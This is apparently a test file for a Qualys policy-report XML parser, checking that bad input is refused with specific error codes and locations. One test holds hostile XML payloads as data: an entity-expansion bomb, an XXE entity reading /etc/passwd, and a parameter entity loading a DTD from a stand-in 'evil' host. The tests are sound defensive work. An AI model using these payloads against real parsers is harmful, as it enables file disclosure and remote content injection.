/** Every refusal of policy-report.md: a typed error with a stable code that says what and where. */
import t, { type Test } from 'tap';
import { QualysReturnError, ReportError } from '../src/errors.ts';
import { fixture, parse } from './helpers.ts';

async function refusal(t: Test, input: string | Buffer, code: string, message: RegExp, where: { line?: number; byteOffset?: number } = {}, opts = {}) {
  const err = await parse(input, opts).then(
    () => null,
    (e: unknown) => e,
  );
  t.ok(err instanceof ReportError, `refused with a ReportError (${code})`);
  if (!(err instanceof ReportError)) return null;
  t.equal(err.code, code);
  t.match(err.message, message);
  if (where.line !== undefined) t.equal(err.line, where.line, 'line');
  if (where.byteOffset !== undefined) t.equal(err.byteOffset, where.byteOffset, 'byte offset');
  return err;
}

t.test('another root is named', async (t) => {
  const scan = '<?xml version="1.0"?>\n<!DOCTYPE ASSET_DATA_REPORT SYSTEM "x.dtd">\n<ASSET_DATA_REPORT><HEADER/></ASSET_DATA_REPORT>';
  await refusal(t, scan, 'NOT_A_POLICY_REPORT', /<ASSET_DATA_REPORT>.*vulnerability scan report, not a policy report.*line 3, byte 66/, { line: 3, byteOffset: 66 });
  await refusal(t, '<FOO_REPORT/>', 'NOT_A_POLICY_REPORT', /root element is <FOO_REPORT>, not a policy report/, { line: 1, byteOffset: 0 });
  await refusal(t, '<!DOCTYPE html>\n<html><body>Service unavailable</body></html>', 'NOT_A_POLICY_REPORT', /<html>: an HTML page/, { line: 2 });
});

t.test('Qualys error envelopes show their code and text', async (t) => {
  const simple = `<?xml version="1.0" encoding="UTF-8" ?>
<!DOCTYPE SIMPLE_RETURN SYSTEM "https://qualysapi.qualys.com/api/2.0/simple_return.dtd">
<SIMPLE_RETURN>
  <RESPONSE>
    <DATETIME>2026-11-20T10:00:00Z</DATETIME>
    <CODE>1965</CODE>
    <TEXT>This API cannot be run again for another 42 seconds.</TEXT>
    <ITEM_LIST><ITEM><KEY>SECONDS_TO_WAIT</KEY><VALUE>42</VALUE></ITEM></ITEM_LIST>
  </RESPONSE>
</SIMPLE_RETURN>`;
  const e = await refusal(t, simple, 'QUALYS_ERROR', /SIMPLE_RETURN.*code 1965: This API cannot be run again for another 42 seconds\..*line 3/, { line: 3 });
  t.ok(e instanceof QualysReturnError);
  if (e instanceof QualysReturnError) {
    t.equal(e.qualysCode, '1965');
    t.equal(e.qualysText, 'This API cannot be run again for another 42 seconds.');
    t.equal(e.root, 'SIMPLE_RETURN');
  }
  const generic = '<GENERIC_RETURN>\n<API name="report" username="u" at="2026"/>\n<RETURN status="FAILED" number="999">Internal error. Please contact customer support.</RETURN>\n</GENERIC_RETURN>';
  await refusal(t, generic, 'QUALYS_ERROR', /GENERIC_RETURN.*code 999: Internal error\. Please contact customer support\./, { line: 1 });
});

t.test('a report cut before its root is closed is refused, wherever it is cut', async (t) => {
  const buf = fixture('canonical.xml');
  const rootEnd = buf.indexOf('</COMPLIANCE_POLICY_REPORT>') + '</COMPLIANCE_POLICY_REPORT>'.length;
  await refusal(t, buf.subarray(0, 2000), 'TRUNCATED', /before the root element <COMPLIANCE_POLICY_REPORT> is closed.*still open: .*HOST.*byte 2000/, { byteOffset: 2000 });
  let truncated = 0;
  let empty = 0;
  for (let n = 0; n < rootEnd; n++) {
    const err = await parse(buf.subarray(0, n)).then(
      () => null,
      (e: unknown) => e,
    );
    if (err instanceof ReportError && err.code === 'TRUNCATED') truncated++;
    else if (err instanceof ReportError && err.code === 'EMPTY_INPUT') empty++;
    else t.fail(`prefix of ${n} bytes was not refused as truncated: ${String(err)}`);
  }
  t.equal(truncated + empty, rootEnd, 'every prefix shorter than the closed root is refused');
  t.ok(truncated > 3000, 'most as TRUNCATED');
  t.ok((await parse(buf.subarray(0, rootEnd))).length > 0, 'the report up to its closed root is accepted');
  // a cut error envelope is a cut download too, not a report
  await refusal(t, '<SIMPLE_RETURN><RESPONSE><CODE>1965</CODE>', 'TRUNCATED', /<SIMPLE_RETURN>/);
});

t.test('nesting deeper than 64 levels', async (t) => {
  const deep = (n: number) => `<POLICY_REPORT>\n${'<X>'.repeat(n - 1)}${'</X>'.repeat(n - 1)}</POLICY_REPORT>`;
  t.ok((await parse(deep(64))).length === 2, '64 levels are fine');
  await refusal(t, deep(65), 'TOO_DEEP', /<X> is nested deeper than 64 levels.*line 2, byte 205/, { line: 2, byteOffset: 16 + 63 * 3 });
});

t.test('a text field, an attribute or a token over 1 MiB', async (t) => {
  const big = 'a'.repeat(1024 * 1024 + 1);
  const ok = 'a'.repeat(1024 * 1024);
  const wrap = (inner: string) => `<POLICY_REPORT>\n<RESULTS><POLICY><ID>1</ID><TITLE>${inner}</TITLE></POLICY></RESULTS></POLICY_REPORT>`;
  t.equal((await parse(wrap(ok)))[1]?.type, 'policy', 'exactly 1 MiB is fine');
  await refusal(t, wrap(big), 'FIELD_TOO_LARGE', /text of <TITLE> is larger than 1 MiB/, { line: 2 });
  await refusal(t, wrap(`<![CDATA[${big}]]>`), 'FIELD_TOO_LARGE', /larger than 1 MiB/, { line: 2 });
  await refusal(t, `<POLICY_REPORT>\n<APPENDIX>${big}</APPENDIX></POLICY_REPORT>`, 'FIELD_TOO_LARGE', /<APPENDIX> is larger than 1 MiB/);
  await refusal(t, `<POLICY_REPORT>\n<X a="${big}"/></POLICY_REPORT>`, 'FIELD_TOO_LARGE', /attribute a of <X> is larger than 1 MiB/);
  // an unclosed CDATA section or comment must not be buffered without bound: refused while streaming
  const chunks = async function* () {
    yield Buffer.from('<POLICY_REPORT>\n<APPENDIX><![CDATA[');
    for (let i = 0; i < 64; i++) yield Buffer.alloc(64 * 1024, 0x62);
    t.fail('kept reading a token past the limit');
  };
  const { parseReportToArray } = await import('../src/parse-report.ts');
  const err = await parseReportToArray(chunks()).catch((e: unknown) => e);
  t.equal((err as ReportError).code, 'FIELD_TOO_LARGE');
  t.match((err as ReportError).message, /single token .* larger than 1 MiB.*line 2/);
  // the limit is an option
  await refusal(t, wrap('abcdef'), 'FIELD_TOO_LARGE', /larger than 5 characters/, {}, { maxFieldLength: 5 });
});

t.test('a DOCTYPE internal subset that declares entities', async (t) => {
  const bomb = '<?xml version="1.0"?>\n<!DOCTYPE POLICY_REPORT [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;">\n]>\n<POLICY_REPORT>&lol2;</POLICY_REPORT>';
  await refusal(t, bomb, 'ENTITY_DECLARATION', /declares entities/, { line: 2, byteOffset: 22 });
  const after = '<!DOCTYPE POLICY_REPORT [\n<!ELEMENT POLICY_REPORT ANY>\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<POLICY_REPORT>&xxe;</POLICY_REPORT>';
  await refusal(t, after, 'ENTITY_DECLARATION', /declares entities/, { line: 3 });
  const param = '<!DOCTYPE POLICY_REPORT [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><POLICY_REPORT/>';
  await refusal(t, param, 'ENTITY_DECLARATION', /declares entities/, { line: 1, byteOffset: 0 });
});

t.test('no content', async (t) => {
  await refusal(t, '', 'EMPTY_INPUT', /input is empty \(0 bytes\)/);
  await refusal(t, '  \n\n ', 'EMPTY_INPUT', /no XML root element in 5 bytes/, { byteOffset: 5 });
  await refusal(t, Buffer.from([0xef, 0xbb, 0xbf]), 'EMPTY_INPUT', /no XML root element in 3 bytes/);
  await refusal(t, '<?xml version="1.0"?>\n<!-- nothing -->\n', 'EMPTY_INPUT', /no XML root element/);
  await refusal(t, '{"error":"bad gateway"}', 'EMPTY_INPUT', /starts with "\{\\"error\\":\\"bad gateway\\"}"/);
});

t.test('not well-formed', async (t) => {
  await refusal(t, '<POLICY_REPORT>\n<HEADER><NAME>x</HEADER>\n</POLICY_REPORT>', 'MALFORMED_XML', /closing tag <\/HEADER> where <NAME> \(line 2\) is open.*line 2, byte 31/, { line: 2, byteOffset: 31 });
  await refusal(t, '<POLICY_REPORT></POLICY_REPORT>\n</POLICY_REPORT>', 'MALFORMED_XML', /closing tag <\/POLICY_REPORT> without an open element.*line 2/, { line: 2 });
  await refusal(t, '<POLICY_REPORT/>\n<POLICY_REPORT/>', 'MALFORMED_XML', /second root element <POLICY_REPORT>.*line 2/, { line: 2 });
  await refusal(t, '<POLICY_REPORT><RESULTS>\n<POLICY><TITLE>t</TITLE><HOST_LIST/></POLICY></RESULTS></POLICY_REPORT>', 'MISSING_POLICY_ID', /POLICY element has no ID.*line 2/, { line: 2 });
});
